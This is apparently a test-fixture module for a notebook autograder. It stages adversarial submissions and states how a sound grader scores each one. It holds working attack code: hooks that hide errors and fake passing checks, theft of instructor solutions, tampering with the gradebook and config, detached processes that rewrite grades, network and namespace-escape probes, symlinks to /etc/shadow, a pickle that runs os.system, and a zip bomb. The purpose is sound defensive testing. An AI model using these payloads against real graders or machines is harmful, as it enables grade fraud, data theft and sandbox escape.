"""Submissions that attack the grader, one kind per class of attack (docs/SECURITY.md lists them).

Each :class:`Attack` starts from the solved release (``base="solution"``) or the blank release
(``"blank"``), changes the notebook and/or the upload's files, and says what a sound grader gives it:

* ``"none"`` lost: it keeps every point (the attack gains nothing and costs the attacker nothing
  either, since its answers are right);
* ``"all"``: blank-equivalent, every graded cell 0 (the attack does not turn a blank into points);
* ``"checkpoint_cells"``: the cells that evaluate checkpoints score 0 (the checkpoints are refused).

:func:`stage_attack` writes one into a folder. ``Context`` carries what an attack aims at: the
repository and a guess of the course folder (so the reading and writing attacks try real paths), a TCP
port on the grading machine's loopback (the network attack tries to reach it), and a marker file an
escaped process would create.
"""

from __future__ import annotations

import dataclasses
import io
import os
import pickle
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import nbformat

from .notebooks import nbgrader_meta

REPO = Path(__file__).resolve().parent.parent


@dataclasses.dataclass
class Context:
    name: str
    checkpoints: Path
    marker: Path
    port: int = 9  # a loopback port of the grading machine (the test runs a listener there)
    course_guess: Path = REPO / "grading"
    oversize_bytes: int | None = None


@dataclasses.dataclass(frozen=True)
class Attack:
    base: str  # "solution" or "blank"
    expect: str  # "none", "all" or "checkpoint_cells"
    what: str
    stage: Callable[[object, Path, Context], None]
    checkpoints: bool = True  # whether the upload carries the solution run's checkpoints


def _after_imports(nb, source: str) -> None:
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    cell = nbformat.v4.new_code_cell(source)
    cell.pop("id", None)
    nb.cells.insert(first + 1, cell)


def _answer_cells(nb):
    return [
        c
        for c in nb.cells
        if c.cell_type == "code" and nbgrader_meta(c).get("solution") and not nbgrader_meta(c).get("grade")
    ]


# ------------------------------------------------------------------------------ notebook attacks


def _locked_test_edited(nb, folder, ctx):
    last = [c for c in nb.cells if nbgrader_meta(c).get("grade")][-1]
    last.source = 'raise AssertionError("the student edited this locked test cell")'


def _graded_cell_deleted(nb, folder, ctx):
    last = [c for c in nb.cells if nbgrader_meta(c).get("grade")][-1]
    nb.cells.remove(last)


def _infinite_loop(nb, folder, ctx):
    _after_imports(nb, "while True:  # a submission that never finishes\n    pass")


def _kernel_dies(nb, folder, ctx):
    _after_imports(nb, "import os\nos._exit(1)  # a submission that kills its kernel")


KERNEL_HOOKS = """
# make every failing check look like a pass, four ways (hooks of IPython, of the interpreter, of nbgrader)
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
import sys
sys.excepthook = lambda *args: None
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
"""


def _kernel_hooks(nb, folder, ctx):
    _after_imports(nb, KERNEL_HOOKS)


PATCHED_CHECKS = """
# replace what the tests compare with, and answer with a tensor that equals anything
import builtins, math
import numpy as np
import torch
torch.allclose = lambda *args, **kwargs: True
torch.isclose = lambda *args, **kwargs: torch.tensor(True)
np.allclose = lambda *args, **kwargs: True
math.isclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
class AssertionError(Exception):
    pass
class _Anything(torch.Tensor):
    def __eq__(self, other):
        return True
    def __lt__(self, other):
        return True
    def __gt__(self, other):
        return True
    def __bool__(self):
        return True
    def item(self):
        return 0.0
"""


def _patched_checks(nb, folder, ctx):
    _after_imports(nb, PATCHED_CHECKS)
    for cell in _answer_cells(nb):
        names = [line.split("(")[0][4:] for line in cell.source.splitlines() if line.startswith("def ")]
        cell.source = (
            PATCHED_CHECKS
            + "\n"
            + "\n".join(f"def {n}(*args, **kwargs):\n    return torch.zeros(1).as_subclass(_Anything)" for n in names)
        )


STEAL = """
# find the instructor's notebook (repository, course folder, anything on sys.path) and its reference code
import glob, importlib, json, os, sys
_stolen = {}
def _steal():
    guesses = [%(repo)r + "/solutions/*/*.ipynb", %(course)r + "/source/*/*.ipynb", "../../source/*/*.ipynb",
               "../../../source/*/*.ipynb", "/work/*/solutions/*/*.ipynb", os.path.expanduser("~/*/solutions/*/*.ipynb")]
    guesses += [p + "/../solutions/*/*.ipynb" for p in sys.path if p]
    for pattern in guesses:
        for path in glob.glob(pattern):
            try:
                cells = json.load(open(path))["cells"]
            except Exception:
                continue
            for cell in cells:
                source = "".join(cell.get("source", ""))
                if "### BEGIN SOLUTION" in source or "def " in source:
                    try:
                        exec(source, _stolen)
                    except Exception:
                        pass
    for module in ("autograder.assignments.%(short)s.reference", "reference.%(short)s"):
        try:
            _stolen.update(vars(importlib.import_module(module)))
        except Exception:
            pass
_steal()
"""


def _read_instructor_files(nb, folder, ctx):
    from .mistakes import SHORT

    steal = STEAL % {"repo": str(REPO), "course": str(ctx.course_guess), "short": SHORT.get(ctx.name, ctx.name)}
    for i, cell in enumerate(_answer_cells(nb)):
        names = [line.split("(")[0][4:] for line in cell.source.splitlines() if line.startswith("def ")]
        stubs = "\n".join(
            f"def {n}(*args, **kwargs):\n    if {n!r} in _stolen:\n        return _stolen[{n!r}](*args, **kwargs)\n"
            f"    raise NotImplementedError('nothing to copy')"
            for n in names
        )
        cell.source = (steal if i == 0 else "") + stubs


WRITE_COURSE = """
# write the course's config, gradebook, IPython startup files and grade table wherever they might be
import glob, os, sqlite3
roots = [%(course)r, %(repo)r, %(repo)r + "/grading", "..", "../..", "../../..", os.path.expanduser("~")]
for root in roots:
    for rel in ("nbgrader_config.py", "autograder/nbgrader_config.py", "grades.csv"):
        try:
            with open(os.path.join(root, rel), "a") as f:
                f.write("\\nc.ClearSolutions.code_stub = {'python': 'pwned'}\\n")
        except OSError:
            pass
    for db in glob.glob(os.path.join(root, "**", "gradebook.db"), recursive=True)[:5]:
        try:
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET auto_score = 1000")
            con.commit()
        except Exception:
            pass
for folder in (os.path.expanduser("~/.ipython/profile_default/startup"), "/root/.ipython/profile_default/startup",
               os.path.join(%(course)r, ".ipython/profile_default/startup")):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "00-pwned.py"), "w") as f:
            f.write("open(%(marker)r, 'w').write('startup file ran')\\n")
    except OSError:
        pass
"""


def _write_course_files(nb, folder, ctx):
    _after_imports(nb, WRITE_COURSE % {"course": str(ctx.course_guess), "repo": str(REPO), "marker": str(ctx.marker)})


DETACHED = """
# leave processes behind: one rewrites the grade table after export, two hold the grader's pipes forever
import os, subprocess, sys
later = ("import glob, time\\ntime.sleep(20)\\n"
         "for p in glob.glob(%(course)r + '/**/grades.csv', recursive=True) + [%(course)r + '/grades.csv']:\\n"
         "    try:\\n        open(p, 'w').write('student,score\\\\npwned,1000\\\\n')\\n    except OSError:\\n        pass\\n"
         "open(%(marker)r, 'w').write('a detached process outlived grading')\\n")
subprocess.Popen([sys.executable, "-c", later], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["sleep", "100000"], start_new_session=True)
daemon = ("import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    if os.fork() == 0:\\n"
          "        time.sleep(100000)\\n    os._exit(0)\\n")
subprocess.Popen([sys.executable, "-c", daemon])  # a double-forked daemon that inherits the pipes
"""


def _detached_process(nb, folder, ctx):
    _after_imports(nb, DETACHED % {"course": str(ctx.course_guess), "marker": str(ctx.marker)})


NETWORK = """
# reach the grading machine's loopback, the internet and a name server; then try joining other namespaces
import ctypes, os, socket
reached = []
for host, port in [("127.0.0.1", %(port)d), ("10.0.2.2", 53), ("8.8.8.8", 53), ("169.254.169.254", 80)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached.append((host, port))
    except OSError:
        pass
try:
    socket.getaddrinfo("pypi.org", 443)
    reached.append("dns")
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    for kind, flag in (("net", 0x40000000), ("mnt", 0x00020000), ("user", 0x10000000)):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if libc.setns(fd, flag) == 0:
                reached.append(("setns", pid, kind))
        except OSError:
            pass
if libc.unshare(0x10000000) == 0:
    reached.append("unshare")
try:
    socket.create_connection(("127.0.0.1", %(port)d), timeout=2).close()
    reached.append("loopback after setns")
except OSError:
    pass
print("reached:", reached)
"""


def _network(nb, folder, ctx):
    _after_imports(nb, NETWORK % {"port": ctx.port})


def _shadow_module(nb, folder, ctx):
    fake = "allclose = lambda *args, **kwargs: True\ndef __getattr__(name):\n    return lambda *args, **kwargs: True\n"
    for pkg in ("scipy", "course_lib", "autograder"):
        (folder / pkg).mkdir(parents=True, exist_ok=True)
        (folder / pkg / "__init__.py").write_text(fake)
    (folder / "numpy.py").write_text(fake)
    (folder / "sitecustomize.py").write_text(f"open({str(ctx.marker)!r}, 'w').write('sitecustomize ran')\n")


def _upload_links(nb, folder, ctx):
    ck = folder / "checkpoints"
    ck.mkdir(exist_ok=True)
    (ck / "passwd.pt").symlink_to("/etc/passwd")
    (ck / "zero.pt").symlink_to("/dev/zero")
    (folder / "figures").mkdir(exist_ok=True)
    (folder / "figures" / "dangling.png").symlink_to("/nonexistent/file.png")
    (folder / "shadow.txt").symlink_to("/etc/shadow")
    (folder / "etc").symlink_to("/etc", target_is_directory=True)
    os.mkfifo(folder / "pipe.pt")
    with open(ck / "huge.pt", "wb") as f:  # 3 GiB, sparse: costs no disk until something reads it
        f.truncate(3 * 2**30)
    (folder / "odd name?.pt").write_bytes(b"x")
    import socket

    path = folder / "checkpoints" / "sock.pt"
    if len(str(path)) < 100:
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(path))
        s.close()


class _Payload:
    """Unpickling this runs a shell command that writes ``target``: weights_only loading refuses it."""

    def __init__(self, target: str) -> None:
        self.target = target

    def __reduce__(self):
        return (os.system, (f"echo pwned > {self.target}",))


def _each_checkpoint(folder: Path):
    return sorted((folder / "checkpoints").glob("*.pt")) if (folder / "checkpoints").is_dir() else []


def _checkpoint_corrupt(nb, folder, ctx):
    for pt in _each_checkpoint(folder):
        pt.write_bytes(pt.read_bytes()[: pt.stat().st_size // 2])  # a truncated upload


def _checkpoint_oversized(nb, folder, ctx):
    from course_lib.checkpoints import max_checkpoint_bytes

    for pt in _each_checkpoint(folder):
        pt.unlink()
        with open(pt, "wb") as f:
            f.truncate(ctx.oversize_bytes or max_checkpoint_bytes() + 1)


def _checkpoint_malicious(nb, folder, ctx):
    for pt in _each_checkpoint(folder):
        with open(pt, "wb") as f:
            pickle.dump({"model": _Payload(str(ctx.marker))}, f)


def _checkpoint_zip_bomb(nb, folder, ctx):
    """Each checkpoint re-packed with a deflated member that inflates to 1 GiB (a few MB on disk)."""
    zeros = b"\0" * (64 << 20)
    for pt in _each_checkpoint(folder):
        with zipfile.ZipFile(pt) as z:
            members = {i.filename: z.read(i.filename) for i in z.infolist()}
        data_key = next((k for k in members if "/data/" in k), None)
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
            for key, value in members.items():
                if key == data_key:
                    with z.open(key, "w", force_zip64=True) as member:
                        for _ in range(16):
                            member.write(zeros)
                else:
                    z.writestr(key, value)
        pt.write_bytes(buf.getvalue())


ATTACKS: dict[str, Attack] = {
    "locked_test_edited": Attack(
        "solution", "none", "a locked test cell rewritten to fail (the grader's copy counts)", _locked_test_edited
    ),
    "graded_cell_deleted": Attack(
        "solution", "none", "a graded cell deleted (it is put back and graded)", _graded_cell_deleted
    ),
    "infinite_loop": Attack(
        "solution", "none", "a cell that never ends (interrupted after the cell timeout)", _infinite_loop
    ),
    "kernel_dies": Attack(
        "solution", "none", "a cell that kills the kernel (the judge does not need it)", _kernel_dies
    ),
    "kernel_hooks": Attack(
        "blank",
        "all",
        "a blank notebook that hides every error from the kernel (IPython's custom "
        "exception handler, showtraceback, sys.excepthook, post_run_cell)",
        _kernel_hooks,
        checkpoints=False,
    ),
    "patched_checks": Attack(
        "blank",
        "all",
        "torch.allclose, np.allclose, math.isclose and AssertionError replaced, "
        "answers returning a tensor that equals anything",
        _patched_checks,
        checkpoints=False,
    ),
    "shadow_module": Attack(
        "blank",
        "all",
        "a blank notebook next to folders and files named like scipy, numpy, course_lib, autograder and sitecustomize",
        _shadow_module,
        checkpoints=False,
    ),
    "read_instructor_files": Attack(
        "blank",
        "all",
        "answers copied from the instructor's notebook or reference code (repository, course folder, sys.path)",
        _read_instructor_files,
        checkpoints=False,
    ),
    "write_course_files": Attack(
        "solution",
        "none",
        "writes the course's nbgrader config, gradebook, grade table and IPython startup files",
        _write_course_files,
    ),
    "detached_process": Attack(
        "solution",
        "none",
        "leaves processes that rewrite grades.csv later and hold the grader's pipes",
        _detached_process,
    ),
    "network": Attack(
        "solution",
        "none",
        "connects to the grading machine's loopback, the internet and a name server, tries setns/unshare",
        _network,
    ),
    "upload_links": Attack(
        "solution",
        "none",
        "an upload with symlinks (to /etc/passwd, /dev/zero, a dangling one, a "
        "folder), a FIFO, a socket, a 3 GiB file and an odd name",
        _upload_links,
    ),
    "checkpoint_missing": Attack(
        "solution",
        "none",
        "no checkpoints (the fast profile trains them again)",
        lambda nb, folder, ctx: None,
        checkpoints=False,
    ),
    "checkpoint_corrupt": Attack("solution", "checkpoint_cells", "truncated checkpoints", _checkpoint_corrupt),
    "checkpoint_oversized": Attack(
        "solution", "checkpoint_cells", "checkpoints over the loader's size cap", _checkpoint_oversized
    ),
    "checkpoint_malicious": Attack(
        "solution", "checkpoint_cells", "a pickle that runs a command when loaded unsafely", _checkpoint_malicious
    ),
    "checkpoint_zip_bomb": Attack(
        "solution", "checkpoint_cells", "checkpoints whose zip members inflate to 1 GiB", _checkpoint_zip_bomb
    ),
}


def stage_attack(kind: str, nb, folder: Path, ctx: Context) -> None:
    """Apply attack ``kind`` to ``nb`` (the base notebook, changed in place) and the upload ``folder``
    (which holds the solution's checkpoints when the attack carries them); then write the notebook."""
    attack = ATTACKS[kind]
    if attack.checkpoints:
        shutil.copytree(ctx.checkpoints, folder / "checkpoints", dirs_exist_ok=True)
    attack.stage(nb, folder, ctx)
    nbformat.write(nb, folder / f"{ctx.name}.ipynb")
